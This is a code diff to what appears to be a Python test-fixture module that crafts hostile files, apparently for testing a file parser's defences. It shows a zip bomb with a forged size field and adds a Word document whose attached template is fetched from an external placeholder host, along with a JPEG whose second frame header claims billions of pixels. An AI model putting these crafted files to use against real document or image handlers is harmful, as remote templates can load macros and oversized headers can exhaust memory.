@@ -29,3 +29,17 @@ def bomb() -> bytes:
     at = made.rfind(b"PK\x01\x02")
     made[at + 24 : at + 28] = (4_000_000_000).to_bytes(4, "little")
     return bytes(made)
+
+
+def with_remote_template() -> bytes:
+    """Return a document that fetches its template, macros included, from elsewhere."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    rels = f'<Relationships><Relationship Id="a" Type="{kind}" Target="http://example.invalid/x" TargetMode="External"/></Relationships>'
+    return packed(**{"word/_rels/settings.xml.rels": rels.encode("utf-16")})
+
+
+def twice_sized() -> bytes:
+    """Return a photograph of a few pixels that says at its second frame that it has billions."""
+    frame = b"\xff\xc0\0\x0b\x08%b\x01\x01\x11\0"
+    small, large = (struct.pack(">HH", size, size) for size in (4, 60_000))
+    return b"\xff\xd8" + frame % small + frame % large + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0\xff\xd9"
